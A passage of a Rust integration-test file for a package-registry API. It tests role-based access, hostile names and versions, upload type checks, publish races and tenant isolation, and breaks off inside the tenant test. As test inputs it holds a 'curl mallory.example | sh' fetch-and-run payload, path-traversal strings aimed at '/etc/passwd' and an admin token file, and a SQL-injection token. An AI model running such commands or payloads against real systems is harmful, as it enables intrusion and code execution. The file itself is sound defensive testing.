//! Hostile requests: every role (and no token, a malformed and a revoked one) against every
//! route, path and version tricks, misleading content types, races on one name@version,
//! tenants reaching for each other's data, and what the data directory holds.

use std::collections::{BTreeMap, BTreeSet};

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::{Server, call, decide, example, publish, vectors_for, with_custom_section};

const DYE: &str = "dye-lot-color-qc";

fn dye_input() -> Value {
    json!({"tables": {
        "standard": {"L": [50.0], "a": [2.5], "b": [0.0]},
        "batches": {"batch": ["pair-17"], "L": [73.0], "a": [25.0], "b": [-18.0]}
    }})
}

/// Sends `method target` over a bare socket (no URL normalisation, any bytes in the path);
/// returns the status and the body.
async fn raw(
    server: &Server,
    method: &str,
    target: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> (u16, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = server.base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    let mut head = format!("{method} {target} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n");
    for (name, value) in headers {
        head += &format!("{name}: {value}\r\n");
    }
    head += &format!("Content-Length: {}\r\n\r\n", body.len());
    stream.write_all(head.as_bytes()).await.unwrap();
    let _ = stream.write_all(body).await;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let status = answer
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = answer
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_owned())
        .unwrap_or_default();
    (status, body)
}

/// A multipart publish body of `manifest` and `component`.
fn publish_form(manifest: &str, component: Vec<u8>) -> reqwest::multipart::Form {
    let mut form = reqwest::multipart::Form::new()
        .text("manifest", manifest.to_owned())
        .part("component", reqwest::multipart::Part::bytes(component));
    if let Some(vectors) = vectors_for(DYE) {
        form = form.text("vectors", vectors);
    }
    form
}

/// Who calls, in the matrix's column order.
const CALLERS: [&str; 7] = [
    "admin",
    "provider",
    "enterprise",
    "reviewer",
    "none",
    "malformed",
    "revoked",
];

/// One row of the matrix: a concrete request and the status each caller must get.
struct Cell {
    method: &'static str,
    /// The route as `/openapi.json` lists it.
    route: &'static str,
    /// The concrete path (with ids and names filled in).
    path: String,
    body: Option<Value>,
    expect: [u16; 7],
}

/// The statuses of a route open to `roles` when an allowed caller's request gets `ok`.
fn expect(roles: &[&str], ok: u16) -> [u16; 7] {
    let mut row = [0; 7];
    for (i, caller) in CALLERS.iter().enumerate() {
        row[i] = match *caller {
            "none" | "malformed" | "revoked" if !roles.is_empty() => 401,
            _ if roles.is_empty() || roles == ["any"] || roles.contains(caller) => ok,
            _ => 403,
        };
    }
    row
}

/// The role × route matrix: admin, provider, enterprise, reviewer, no token, a malformed token
/// and a revoked token against every route in `/openapi.json`, each with the status written
/// out here. The rows are checked against the route table twice over: every documented route
/// has a row, and the roles a row admits are the ones the document names.
#[tokio::test]
async fn role_by_route_matrix() {
    let server = Server::start(&["--publish-rate", "1000"]);
    let provider = server.account("acme-digital", "provider").await;
    let enterprise = server.account("wujiang-dyeing", "enterprise").await;
    let reviewer = server.account("expert-li", "reviewer").await;
    let (_, shortlived) = call(
        &server,
        Method::POST,
        "/v1/accounts",
        Some(&server.admin),
        Some(json!({"name": "shortlived", "role": "enterprise"})),
    )
    .await;
    let revoked = shortlived["token"].as_str().unwrap().to_owned();
    let path = format!("/v1/tokens/{}", shortlived["token_id"].as_str().unwrap());
    let (status, _) = call(&server, Method::DELETE, &path, Some(&revoked), None).await;
    assert_eq!(status, StatusCode::OK, "an account revokes its own token");
    // Looks like a token (prefix, 64 hex digits) but was never issued.
    let malformed = format!("smelt_{}", "0".repeat(64));

    let (manifest, wasm) = example(DYE);
    let (status, body) = publish(&server, &provider, DYE, "0.1.0", &manifest, wasm.clone()).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let digest = body["digest"].as_str().unwrap().to_owned();
    decide(&server, &reviewer, DYE, "0.1.0", "approve").await;
    let (status, body) = call(
        &server,
        Method::POST,
        "/v1/deployments",
        Some(&enterprise),
        Some(json!({"package": DYE, "version": "^0.1"})),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let deployment = body["deployment"]["id"].as_str().unwrap().to_owned();
    let need = json!({"industry": "textile-dyeing", "scenes": ["quality"], "target_level": 2,
        "budget_cny": 5000.0, "deadline_days": 30, "description": "ΔE of every lot",
        "sample": dye_input()});
    let (status, body) = call(
        &server,
        Method::POST,
        "/v1/needs",
        Some(&enterprise),
        Some(need.clone()),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let need_id = body["id"].as_str().unwrap().to_owned();

    let d = |suffix: &str| format!("/v1/deployments/{deployment}/{suffix}");
    let trial = json!({"package": DYE, "version": "^0.1", "input": dye_input()});
    let sheet = json!({"answers": {"items": {"D1.S1.I1": {"options": ["B", "C"]}}}});
    let profile = json!({"industry": "textile-dyeing", "employees": 85, "revenue_wan_cny": 6000.0});
    let any = &["any"][..];
    let ent = &["enterprise"][..];
    #[rustfmt::skip]
    let cells = vec![
        Cell { method: "get", route: "/healthz", path: "/healthz".into(), body: None, expect: expect(&[], 200) },
        Cell { method: "get", route: "/metrics", path: "/metrics".into(), body: None, expect: expect(&[], 200) },
        Cell { method: "get", route: "/openapi.json", path: "/openapi.json".into(), body: None, expect: expect(&[], 200) },
        // The admin's call creates the account; nobody else gets that far.
        Cell { method: "post", route: "/v1/accounts", path: "/v1/accounts".into(),
               body: Some(json!({"name": "made-by-matrix", "role": "enterprise"})), expect: expect(&["admin"], 201) },
        // Any signed-in account may revoke tokens, but only its own (or, for admins, any): an
        // unknown id is 404 for everyone signed in.
        Cell { method: "delete", route: "/v1/tokens/{id}", path: "/v1/tokens/tok-0000000000000000".into(), body: None, expect: expect(any, 404) },
        Cell { method: "get", route: "/v1/packages", path: "/v1/packages".into(), body: None, expect: expect(any, 200) },
        Cell { method: "get", route: "/v1/packages/{name}", path: format!("/v1/packages/{DYE}"), body: None, expect: expect(any, 200) },
        Cell { method: "get", route: "/v1/packages/{name}/resolve", path: format!("/v1/packages/{DYE}/resolve?req=%5E0.1"), body: None, expect: expect(any, 200) },
        // Publishing the same bytes again is 200 for the owner; the role check comes before
        // the body is read (see the multipart rows below).
        Cell { method: "put", route: "/v1/packages/{name}/{version}", path: format!("/v1/packages/{DYE}/0.1.0"), body: None, expect: expect(&["provider"], 200) },
        Cell { method: "get", route: "/v1/packages/{name}/{version}", path: format!("/v1/packages/{DYE}/0.1.0"), body: None, expect: expect(any, 200) },
        // A version that does not exist: past the role check, 404.
        Cell { method: "post", route: "/v1/packages/{name}/{version}/yank", path: format!("/v1/packages/{DYE}/9.9.9/yank"), body: None, expect: expect(&["provider", "admin"], 404) },
        Cell { method: "post", route: "/v1/packages/{name}/{version}/unyank", path: format!("/v1/packages/{DYE}/9.9.9/unyank"), body: None, expect: expect(&["provider", "admin"], 404) },
        Cell { method: "get", route: "/v1/blobs/{digest}", path: format!("/v1/blobs/{digest}"), body: None, expect: expect(any, 200) },
        Cell { method: "post", route: "/v1/trials", path: "/v1/trials".into(), body: Some(trial.clone()), expect: expect(ent, 200) },
        Cell { method: "get", route: "/v1/reviews/queue", path: "/v1/reviews/queue".into(), body: None, expect: expect(&["reviewer", "admin"], 200) },
        Cell { method: "post", route: "/v1/reviews/{name}/{version}/decision", path: format!("/v1/reviews/{DYE}/0.1.0/decision"),
               body: Some(json!({"decision": "approve", "note": "matrix"})), expect: expect(&["reviewer"], 200) },
        Cell { method: "post", route: "/v1/reviews/{name}/{version}/conformance", path: format!("/v1/reviews/{DYE}/0.1.0/conformance"),
               body: Some(json!({})), expect: expect(&["reviewer"], 200) },
        Cell { method: "get", route: "/v1/rankings", path: "/v1/rankings".into(), body: None, expect: expect(any, 200) },
        Cell { method: "put", route: "/v1/profile", path: "/v1/profile".into(), body: Some(profile), expect: expect(ent, 200) },
        Cell { method: "get", route: "/v1/profile", path: "/v1/profile".into(), body: None, expect: expect(ent, 200) },
        Cell { method: "post", route: "/v1/assessments", path: "/v1/assessments".into(), body: Some(sheet), expect: expect(ent, 201) },
        Cell { method: "get", route: "/v1/assessments", path: "/v1/assessments".into(), body: None, expect: expect(ent, 200) },
        Cell { method: "post", route: "/v1/needs", path: "/v1/needs".into(), body: Some(need), expect: expect(ent, 201) },
        Cell { method: "get", route: "/v1/needs", path: "/v1/needs".into(), body: None, expect: expect(&["enterprise", "provider"], 200) },
        Cell { method: "get", route: "/v1/needs/{id}/matches", path: format!("/v1/needs/{need_id}/matches"), body: None, expect: expect(ent, 200) },
        Cell { method: "get", route: "/v1/dashboard", path: "/v1/dashboard".into(), body: None, expect: expect(&["admin"], 200) },
        Cell { method: "post", route: "/v1/deployments", path: "/v1/deployments".into(),
               body: Some(json!({"package": DYE, "version": "^0.1"})), expect: expect(ent, 201) },
        Cell { method: "get", route: "/v1/deployments", path: "/v1/deployments".into(), body: None, expect: expect(ent, 200) },
        Cell { method: "post", route: "/v1/deployments/{id}/invoke", path: d("invoke"), body: Some(json!({"input": dye_input()})), expect: expect(ent, 200) },
        Cell { method: "post", route: "/v1/deployments/{id}/upgrade", path: d("upgrade"),
               body: Some(json!({"version": "^0.1", "dry_run": true})), expect: expect(ent, 409) },
        // Already on the version asked for, and nothing to roll back to: conflicts, after the
        // role check.
        Cell { method: "post", route: "/v1/deployments/{id}/rollback", path: d("rollback"), body: Some(json!({})), expect: expect(ent, 409) },
        Cell { method: "get", route: "/v1/deployments/{id}/history", path: d("history"), body: None, expect: expect(ent, 200) },
        Cell { method: "get", route: "/v1/deployments/{id}/acceptance", path: d("acceptance"), body: None, expect: expect(ent, 200) },
        Cell { method: "get", route: "/v1/usage", path: "/v1/usage".into(), body: None, expect: expect(ent, 200) },
        Cell { method: "get", route: "/v1/audit", path: "/v1/audit".into(), body: None, expect: expect(&["admin", "reviewer"], 200) },
        Cell { method: "get", route: "/v1/audit/verify", path: "/v1/audit/verify".into(), body: None, expect: expect(&["admin", "reviewer"], 200) },
    ];

    // Every documented route has exactly one row, and each row admits exactly the documented
    // roles (a 401/403 cell is a refusal; any other status got past authorisation).
    let (_, openapi) = call(&server, Method::GET, "/openapi.json", None, None).await;
    let mut documented = BTreeMap::new();
    for (path, ops) in openapi["paths"].as_object().unwrap() {
        for (method, op) in ops.as_object().unwrap() {
            let roles: BTreeSet<String> = op["x-smelt-roles"]
                .as_array()
                .unwrap()
                .iter()
                .map(|r| r.as_str().unwrap().to_owned())
                .collect();
            documented.insert((method.clone(), path.clone()), roles);
        }
    }
    let rows: BTreeSet<(String, String)> = cells
        .iter()
        .map(|c| (c.method.to_owned(), c.route.to_owned()))
        .collect();
    assert_eq!(rows.len(), cells.len(), "a route has two rows");
    let undocumented: Vec<_> = rows
        .iter()
        .filter(|r| !documented.contains_key(*r))
        .collect();
    let untested: Vec<_> = documented.keys().filter(|k| !rows.contains(*k)).collect();
    assert!(
        undocumented.is_empty() && untested.is_empty(),
        "rows not in /openapi.json: {undocumented:?}; routes without a row: {untested:?}"
    );
    for cell in &cells {
        let roles = &documented[&(cell.method.to_owned(), cell.route.to_owned())];
        for (i, caller) in CALLERS.iter().enumerate().take(4) {
            let admitted = roles.is_empty() || roles.contains("any") || roles.contains(*caller);
            assert_eq!(
                admitted,
                cell.expect[i] != 403,
                "{} {}: the row and /openapi.json disagree about {caller}",
                cell.method,
                cell.route
            );
        }
    }

    let tokens = [
        Some(server.admin.as_str()),
        Some(provider.as_str()),
        Some(enterprise.as_str()),
        Some(reviewer.as_str()),
        None,
        Some(malformed.as_str()),
        Some(revoked.as_str()),
    ];
    let mut failures = Vec::new();
    let mut checked = 0;
    for cell in &cells {
        for (i, token) in tokens.iter().enumerate() {
            let method: Method = cell.method.to_uppercase().parse().unwrap();
            let status = if cell.route == "/v1/packages/{name}/{version}" && cell.method == "put" {
                let mut request = server.request(method, &cell.path, *token);
                request = request.multipart(publish_form(&manifest, wasm.clone()));
                request.send().await.unwrap().status()
            } else {
                call(&server, method, &cell.path, *token, cell.body.clone())
                    .await
                    .0
            };
            checked += 1;
            if status.as_u16() != cell.expect[i] {
                failures.push(format!(
                    "{} {} as {}: {} (expected {})",
                    cell.method, cell.path, CALLERS[i], status, cell.expect[i]
                ));
            }
        }
    }
    println!(
        "role × route matrix: {} routes × {} callers = {checked} cells checked",
        cells.len(),
        CALLERS.len()
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    let (status, _) = call(&server, Method::GET, "/healthz", None, None).await;
    assert_eq!(status, StatusCode::OK);
}

/// Every `/v1/` route the server's source registers is in the route table behind
/// `/openapi.json` (so the matrix above, which covers the document, covers the API).
#[test]
fn every_registered_route_is_documented() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/src/server");
    let documented: BTreeSet<String> = std::fs::read_to_string(format!("{dir}/meta.rs"))
        .unwrap()
        .lines()
        .filter_map(|l| l.trim().strip_prefix("path: \""))
        .map(|l| l.trim_end_matches("\",").to_owned())
        .collect();
    let mut missing = Vec::new();
    let mut dirs = vec![std::path::PathBuf::from(dir)];
    let mut files = Vec::new();
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else if path.extension().is_some_and(|e| e == "rs") {
                files.push(path);
            }
        }
    }
    for path in files {
        let source = std::fs::read_to_string(&path).unwrap();
        // `.route("/path", ...)`, possibly with the path on the next line.
        let joined = source.replace(".route(\n", ".route(");
        for piece in joined.split(".route(").skip(1) {
            let route = piece.trim_start().trim_start_matches('"');
            let route = &route[..route.find('"').unwrap()];
            // The API's routes; the web UI's pages are not part of the API document.
            if route.starts_with("/v1/") && !documented.contains(route) {
                missing.push(format!("{}: {route}", path.display()));
            }
        }
    }
    assert!(
        missing.is_empty(),
        "routes missing from ROUTES: {missing:?}"
    );
}

/// Names and versions an attacker might try in the URL of a publish: each is refused with 400
/// naming the problem, before any upload is read; nothing is created.
#[tokio::test]
async fn hostile_names_and_versions() {
    let server = Server::start(&["--publish-rate", "1000"]);
    let provider = server.account("acme-digital", "provider").await;
    let (manifest, wasm) = example(DYE);
    let long = "1".repeat(10_000);
    let auth = format!("Bearer {provider}");
    let headers = [
        ("Authorization", auth.as_str()),
        ("Content-Type", "multipart/form-data; boundary=X"),
    ];
    let body = b"--X--\r\n";
    let mut tried = 0;
    // (name, version, expected status, code)
    let cases: Vec<(String, String, u16, &str)> = vec![
        ("..%2F..%2Fetc".into(), "0.1.0".into(), 400, "invalid_name"),
        ("%2e%2e".into(), "0.1.0".into(), 400, "invalid_name"),
        (
            "%2E%2E%2Fadmin.token".into(),
            "0.1.0".into(),
            400,
            "invalid_name",
        ),
        ("dye-lot%00".into(), "0.1.0".into(), 400, "invalid_name"),
        (
            "Dye-Lot-Color-QC".into(),
            "0.1.0".into(),
            400,
            "invalid_name",
        ),
        (
            "dye_lot_color_qc".into(),
            "0.1.0".into(),
            400,
            "invalid_name",
        ),
        ("dye--lot".into(), "0.1.0".into(), 400, "invalid_name"),
        ("dye-lot-".into(), "0.1.0".into(), 400, "invalid_name"),
        ("-dye-lot".into(), "0.1.0".into(), 400, "invalid_name"),
        ("d%C3%BFe-lot".into(), "0.1.0".into(), 400, "invalid_name"),
        ("a".repeat(10_000), "0.1.0".into(), 400, "invalid_name"),
        (DYE.into(), "1.0".into(), 400, "invalid_version"),
        (DYE.into(), "01.0.0".into(), 400, "invalid_version"),
        (DYE.into(), "v1.0.0".into(), 400, "invalid_version"),
        (DYE.into(), "1.0.0+build.7".into(), 400, "invalid_version"),
        (DYE.into(), "1.0.0%00".into(), 400, "invalid_version"),
        (DYE.into(), "%2e%2e".into(), 400, "invalid_version"),
        (DYE.into(), long.clone(), 400, "invalid_version"),
    ];
    for (name, version, status, code) in &cases {
        let target = format!("/v1/packages/{name}/{version}");
        let (got, answer) = raw(&server, "PUT", &target, &headers, body).await;
        tried += 1;
        assert_eq!(got, *status, "{target}: {answer}");
        let answer: Value = serde_json::from_str(&answer).unwrap();
        assert_eq!(answer["error"]["code"], *code, "{target}: {answer}");
        let message = answer["error"]["message"].as_str().unwrap();
        // The message names the problem without echoing 10k characters back.
        assert!(message.len() < 400, "{target}: {} bytes", message.len());
    }
    // Raw `..` segments never reach a handler: no route has them.
    for target in [
        "/v1/packages/../../etc/passwd/0.1.0",
        "/v1/packages/dye-lot-color-qc/../../../admin.token",
        "/v1/blobs/../admin.token",
    ] {
        let (got, answer) = raw(&server, "PUT", target, &headers, body).await;
        tried += 1;
        assert!(
            got == 404 || got == 400 || got == 405,
            "{target}: {got} {answer}"
        );
    }
    // Lookups with the same tricks: refused, never resolved to another package.
    for target in [
        "/v1/packages/dye_lot_color_qc",
        "/v1/packages/DYE-LOT-COLOR-QC",
        "/v1/packages/%2e%2e",
        "/v1/packages/dye-lot-color-qc/resolve?req=1.0.0.0",
        "/v1/blobs/sha256:..%2F..%2Fadmin.token",
        "/v1/blobs/sha256:ABCDEF",
    ] {
        let (got, answer) = raw(&server, "GET", target, &headers[..1], b"").await;
        tried += 1;
        assert_eq!(got, 400, "{target}: {answer}");
    }
    // A real publish still works, and nothing else was created.
    let (status, body) = publish(&server, &provider, DYE, "0.1.0", &manifest, wasm).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (_, list) = call(&server, Method::GET, "/v1/packages", Some(&provider), None).await;
    assert_eq!(list["packages"].as_array().unwrap().len(), 1, "{list}");
    println!("hostile names and versions: {tried} requests refused");
}

/// The upload's declared types are never trusted: only the bytes decide.
#[tokio::test]
async fn misleading_content_types_and_magic_bytes() {
    let server = Server::start(&["--publish-rate", "1000"]);
    let provider = server.account("acme-digital", "provider").await;
    let enterprise = server.account("wujiang-dyeing", "enterprise").await;
    let (manifest, wasm) = example(DYE);
    let target = format!("/v1/packages/{DYE}/0.1.0");

    // A raw wasm body labelled application/wasm, or JSON: not a multipart upload.
    for content_type in ["application/wasm", "application/json", "text/plain"] {
        let response = server
            .request(Method::PUT, &target, Some(&provider))
            .header("content-type", content_type)
            .body(wasm.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(
            response.status(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "{content_type}"
        );
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["error"]["code"], "unsupported_media_type");
    }

    // The component part claims to be wasm; its bytes are something else.
    let not_wasm: [(&[u8], &str, u16); 6] = [
        (b"#!/bin/sh\ncurl mallory.example | sh\n", "not_wasm", 415),
        (b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", "not_wasm", 415),
        (b"MZ\x90\0\x03\0\0\0", "not_wasm", 415),
        (b"\x1f\x8b\x08\0\0\0\0\0", "not_wasm", 415),
        (b"\0asm\x01\0\0\0", "core_module", 415),
        (b"\0asm\x02\0\0\0", "invalid_component", 422),
    ];
    for (bytes, code, status) in not_wasm {
        let part = reqwest::multipart::Part::bytes(bytes.to_vec())
            .mime_str("application/wasm")
            .unwrap()
            .file_name("dye_lot_color_qc.wasm");
        let form = reqwest::multipart::Form::new()
            .text("manifest", manifest.clone())
            .part("component", part);
        let response = server
            .request(Method::PUT, &target, Some(&provider))
            .multipart(form)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), status, "{code}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["error"]["code"], code, "{body}");
    }

    // The real component labelled as text still publishes: labels are ignored both ways.
    let part = reqwest::multipart::Part::bytes(wasm)
        .mime_str("text/plain")
        .unwrap();
    let form = reqwest::multipart::Form::new()
        .text("manifest", manifest)
        .part("component", part)
        .text("vectors", vectors_for(DYE).unwrap());
    let response = server
        .request(Method::PUT, &target, Some(&provider))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);

    // A JSON route fed something that is not JSON, or JSON under another label.
    for (content_type, body) in [
        (
            "text/plain",
            json!({"package": DYE, "version": "*", "input": {}}).to_string(),
        ),
        (
            "application/json",
            "{\"package\": \"dye-lot-color-qc\",".to_owned(),
        ),
        (
            "application/x-www-form-urlencoded",
            "package=dye-lot-color-qc".to_owned(),
        ),
    ] {
        let response = server
            .request(Method::POST, "/v1/trials", Some(&enterprise))
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .unwrap();
        let status = response.status();
        let body: Value = response.json().await.unwrap();
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{content_type}: {body}"
        );
        assert_eq!(body["error"]["code"], "invalid_body", "{body}");
    }
}

/// A name@version is never reused: not with other bytes, not after a yank; the same bytes
/// again are an idempotent 200 that does not undo the yank.
#[tokio::test]
async fn versions_are_immutable_through_yanks() {
    let server = Server::start(&["--publish-rate", "1000"]);
    let provider = server.account("acme-digital", "provider").await;
    let enterprise = server.account("wujiang-dyeing", "enterprise").await;
    let reviewer = server.account("expert-li", "reviewer").await;
    let (manifest, wasm) = example(DYE);
    let (status, body) = publish(&server, &provider, DYE, "0.1.0", &manifest, wasm.clone()).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let digest = body["digest"].clone();
    decide(&server, &reviewer, DYE, "0.1.0", "approve").await;
    let (status, _) = call(
        &server,
        Method::POST,
        &format!("/v1/packages/{DYE}/0.1.0/yank"),
        Some(&provider),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::OK);

    let other = with_custom_section(wasm.clone(), b"after the yank");
    let (status, body) = publish(&server, &provider, DYE, "0.1.0", &manifest, other).await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert_eq!(body["error"]["code"], "already_exists", "{body}");
    let (status, body) = publish(&server, &provider, DYE, "0.1.0", &manifest, wasm).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["digest"], digest);

    let (_, version) = call(
        &server,
        Method::GET,
        &format!("/v1/packages/{DYE}/0.1.0"),
        Some(&provider),
        None,
    )
    .await;
    assert_eq!(version["yanked"], true, "re-publishing must not un-yank");
    assert_eq!(version["digest"], digest);
    let (status, _) = call(
        &server,
        Method::GET,
        &format!("/v1/packages/{DYE}/resolve?req=%5E0.1"),
        Some(&enterprise),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

/// Fifty publishes of one name@version with fifty different byte strings, all at once: exactly
/// one is created, the other 49 conflict, and the stored version is the winner's.
#[tokio::test]
async fn fifty_parallel_publishes_of_one_version() {
    let server = Server::start(&["--publish-rate", "1000"]);
    let provider = server.account("acme-digital", "provider").await;
    let (manifest, wasm) = example(DYE);
    let mut tasks = Vec::new();
    for i in 0..50 {
        let component = with_custom_section(wasm.clone(), format!("racer {i}").as_bytes());
        let request = server
            .request(
                Method::PUT,
                &format!("/v1/packages/{DYE}/0.1.0"),
                Some(&provider),
            )
            .multipart(publish_form(&manifest, component));
        tasks.push(tokio::spawn(async move {
            let response = request.send().await.unwrap();
            let status = response.status();
            (status, response.json::<Value>().await.unwrap())
        }));
    }
    let mut created = Vec::new();
    let mut statuses = BTreeMap::<u16, usize>::new();
    for task in tasks {
        let (status, body) = task.await.unwrap();
        *statuses.entry(status.as_u16()).or_default() += 1;
        if status == StatusCode::CREATED {
            created.push(body["digest"].clone());
        }
    }
    println!("50 parallel publishes: {statuses:?}");
    assert_eq!(statuses.get(&201), Some(&1), "{statuses:?}");
    assert_eq!(statuses.get(&409), Some(&49), "{statuses:?}");
    let (_, version) = call(
        &server,
        Method::GET,
        &format!("/v1/packages/{DYE}/0.1.0"),
        Some(&provider),
        None,
    )
    .await;
    assert_eq!(version["digest"], created[0]);
    let (_, package) = call(
        &server,
        Method::GET,
        &format!("/v1/packages/{DYE}"),
        Some(&provider),
        None,
    )
    .await;
    assert_eq!(
        package["versions"].as_array().unwrap().len(),
        1,
        "{package}"
    );
}

/// A provider cannot review, approve or run the reviewers' suite on its own package (or any),
/// and a reviewer cannot publish.
#[tokio::test]
async fn no_one_reviews_their_own_package() {
    let server = Server::start(&[]);
    let provider = server.account("acme-digital", "provider").await;
    let reviewer = server.account("expert-li", "reviewer").await;
    let enterprise = server.account("wujiang-dyeing", "enterprise").await;
    let (manifest, wasm) = example(DYE);
    let (status, _) = publish(&server, &provider, DYE, "0.1.0", &manifest, wasm.clone()).await;
    assert_eq!(status, StatusCode::CREATED);
    for (who, token) in [("provider", &provider), ("admin", &server.admin)] {
        for decision in ["approve", "reject", "suspend"] {
            let (status, body) = call(
                &server,
                Method::POST,
                &format!("/v1/reviews/{DYE}/0.1.0/decision"),
                Some(token),
                Some(json!({"decision": decision, "note": "looks great to me"})),
            )
            .await;
            assert_eq!(status, StatusCode::FORBIDDEN, "{who} {decision}: {body}");
        }
        let (status, _) = call(
            &server,
            Method::POST,
            &format!("/v1/reviews/{DYE}/0.1.0/conformance"),
            Some(token),
            Some(json!({})),
        )
        .await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{who} conformance");
    }
    let (status, _) = publish(&server, &reviewer, DYE, "0.1.0", &manifest, wasm).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // Still pending: the enterprise cannot see or try it.
    let (status, _) = call(
        &server,
        Method::GET,
        &format!("/v1/packages/{DYE}/resolve?req=*"),
        Some(&enterprise),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

/// Tokens that are not quite tokens: each is a 401 with the same body as no token at all.
#[tokio::test]
async fn malformed_and_revoked_tokens() {
    let server = Server::start(&[]);
    let enterprise = server.account("wujiang-dyeing", "enterprise").await;
    let (_, baseline) = raw(&server, "GET", "/v1/packages", &[], b"").await;
    let long = format!("Bearer smelt_{}", "a".repeat(10_000));
    let with_space = format!("Bearer {enterprise} extra");
    let lower = format!("bearer {enterprise}");
    let basic = format!("Basic {enterprise}");
    let doubled = format!("Bearer {enterprise}{enterprise}");
    let truncated = format!("Bearer {}", &enterprise[..enterprise.len() - 1]);
    let upper = format!("Bearer {}", enterprise.to_uppercase());
    let headers = [
        "Bearer",
        "Bearer ",
        "Bearer  ",
        long.as_str(),
        with_space.as_str(),
        lower.as_str(),
        basic.as_str(),
        doubled.as_str(),
        truncated.as_str(),
        upper.as_str(),
        "Bearer ' OR 1=1 --",
        "Bearer ../../admin.token",
    ];
    for header in headers {
        let (status, body) = raw(
            &server,
            "GET",
            "/v1/packages",
            &[("Authorization", header)],
            b"",
        )
        .await;
        assert_eq!(status, 401, "{header:.40}: {body}");
        assert_eq!(body, baseline, "{header:.40}");
    }
    // A NUL in a header is not HTTP: the server's parser refuses the request outright.
    let (status, _) = raw(
        &server,
        "GET",
        "/v1/packages",
        &[("Authorization", "Bearer smelt_\u{0}")],
        b"",
    )
    .await;
    assert_eq!(status, 400);
    // Two Authorization headers: the first is used, and a bad first is a 401.
    let good = format!("Bearer {enterprise}");
    let (status, _) = raw(
        &server,
        "GET",
        "/v1/packages",
        &[("Authorization", "Bearer nope"), ("Authorization", &good)],
        b"",
    )
    .await;
    assert_eq!(status, 401);
    let (status, _) = raw(
        &server,
        "GET",
        "/v1/packages",
        &[("Authorization", &good)],
        b"",
    )
    .await;
    assert_eq!(status, 200);
}

/// One enterprise reaching for another's needs, assessments, deployments and usage: every
/// direct reach is 404 (existence is not revealed) and every list leaves the other out.
#[tokio::test]
async fn enterprises_cannot_reach_each_other() {
    let server = Server::start(&[]);
    let provider = server.account("acme-digital", "provider").await;
    let reviewer = server.account("expert-li", "reviewer").await;
    let alice = server.account("wujiang-dyeing", "enterprise").await;
    let mallory = server.account("rival-dyeing", "enterprise").await;
    let (manifest, wasm) = example(DYE);
    let (status, _) = publish(&server, &provider, DYE, "0.1.0", &manifest, wasm).await;
    assert_eq!(status, StatusCode::CREATED);
    decide(&server, &reviewer, DYE, "0.1.0", "approve").await;

    // Alice's data: a profile, an assessment, a need with sample data, a deployment used once.
    let secret = "alice-secret-lot-4711";
    let mut input = dye_input();
    input["tables"]["batches"]["batch"] = json!([secret]);
    let sheet = json!({"answers": {"items": {"D1.S1.I1": {"options": ["B", "C"]}}}});
    let profile = json!({"industry": "textile-dyeing", "employees": 85, "revenue_wan_cny": 6000.0});
    let (status, _) = call(
        &server,
        Method::PUT,
        "/v1/profile",
        Some(&alice),
        Some(profile),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = call(
        &server,
        Method::POST,
        "/v1/assessments",
        Some(&alice),
        Some(sheet),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
    let need = json!({"industry": "textile-dyeing", "scenes": ["quality"], "target_level": 2,
        "budget_cny": 5000.0, "deadline_days": 30, "description": secret, "sample": input});
    let (status, body) = call(&server, Method::POST, "/v1/needs", Some(&alice), Some(need)).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let need_id = body["id"].as_str().unwrap().to_owned();
    let (status, body) = call(
        &server,
        Method::POST,
        "/v1/deployments",
        Some(&alice),
        Some(json!({"package": DYE, "version": "^0.1"})),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let deployment = body["deployment"]["id"].as_str().unwrap().to_owned();
    let (status, _) = call(
        &server,
        Method::POST,
        &format!("/v1/deployments/{deployment}/invoke"),
        Some(&alice),
        Some(json!({"input": input})),
    )
    .await;
    assert_eq!(status, StatusCode::OK);

    // Mallory reaches directly: 404 everywhere, as for an id that does not exist.
    let d = |suffix: &str| format!("/v1/deployments/{deployment}/{suffix}");
    let reaches = [
        (Method::GET, format!("/v1/needs/{need_id}/matches"), None),
        (
            Method::POST,
            d("invoke"),
            Some(json!({"input": dye_input()})),
        ),
        (
            Method::POST,
            d("upgrade"),
            Some(json!({"version": "^0.1", "dry_run": true})),
        ),
